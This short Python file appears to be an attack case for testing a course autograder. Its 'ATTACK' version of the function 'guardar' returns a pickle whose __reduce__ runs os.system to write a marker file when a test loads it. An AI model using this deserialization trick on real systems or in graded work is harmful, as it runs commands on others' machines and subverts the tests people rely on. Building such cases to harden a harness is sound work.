"""Returns a pickle that writes into the course when a test loads it.

id: pickle-that-runs
notebook: tp
replaces: guardar
loses: prueba_guardar
"""


def guardar(x):
    import pickle

    return pickle.dumps([x])


# ATTACK
class _Mina:
    def __reduce__(self):
        import os

        return os.system, ("touch __RAIZ__/__MARCA__",)


def guardar(x):
    import pickle

    return pickle.dumps(_Mina())
